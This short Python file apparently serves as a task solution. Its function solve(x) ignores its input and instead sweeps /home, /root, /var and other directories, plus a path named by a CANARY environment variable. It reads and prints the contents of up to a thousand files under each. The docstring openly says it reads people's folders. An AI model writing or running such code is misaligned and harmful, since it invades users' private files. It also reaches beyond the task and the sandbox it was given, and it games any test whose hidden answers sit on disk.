"""Reads whatever it finds of people's folders."""

import os
import pathlib

def solve(x):
    found = []
    roots = ["/home", "/root", "/work", "/mnt", "/srv", "/opt", "/var", os.environ.get("CANARY", "/")]
    for root in roots:
        for path in [pathlib.Path(root), *list(pathlib.Path(root).rglob("*"))[:1000]]:
            try:
                found.append(path.read_text(errors="replace")[:1000])
            except OSError:
                pass
    print(found)
    return found
